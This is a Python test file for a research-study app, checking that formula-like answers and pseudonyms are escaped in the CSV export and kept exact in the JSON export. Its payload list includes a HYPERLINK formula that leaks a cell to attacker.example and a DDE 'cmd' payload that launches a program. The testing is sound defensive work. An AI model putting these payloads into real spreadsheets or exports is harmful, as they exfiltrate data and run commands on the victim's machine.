"""Text and bodies built to harm: formulas for the researcher's spreadsheet, NUL characters,
bodies nested or sized past what the server parses. Each gets a clear 4xx (or is written
harmlessly), and nothing is recorded on a refusal."""

import csv
import io
import json

import pytest

from studies.services import enrol

from .study_helpers import answer_all, make_study

pytestmark = pytest.mark.django_db


# -- formulas in the CSV export -------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3*A1",
            "@SUM(A1:A9)"]


def test_text_a_spreadsheet_would_run_reaches_the_csv_as_text_and_the_json_exactly(client):
    study = make_study(task="concept", n_items=len(FORMULAS), practice=0, conditions=(("=1+1", ["Rl"], 0),))
    answer_all(enrol(study, pseudonym="=cmd|' /C calc'!A0"),
               lambda item: {"free_text": FORMULAS[item.order], "confidence": 3, "seconds_on_item": 2.5})
    client.force_login(study.owner)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/studies/{study.pk}/export.csv").content.decode())))
    assert len(rows) == len(FORMULAS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "no cell starts a formula"
    # shown as the text it is, after an apostrophe (defusedcsv also escapes "|", a DDE separator)
    assert sorted(r["answer"] for r in rows) == sorted("'" + f.replace("|", "\\|") for f in FORMULAS)
    assert {r["annotator"] for r in rows} == {"'=cmd\\|' /C calc'!A0"}
    assert {r["condition"] for r in rows} == {"'=1+1"}
    assert {r["seconds_on_item"] for r in rows} == {"2.5"}  # numbers stay numbers
    exported = json.loads(client.get(f"/studies/{study.pk}/export.json").content)["responses"]
    assert sorted(r["answer"] for r in exported) == sorted(FORMULAS)
    assert {r["annotator"] for r in exported} == {"=cmd|' /C calc'!A0"}
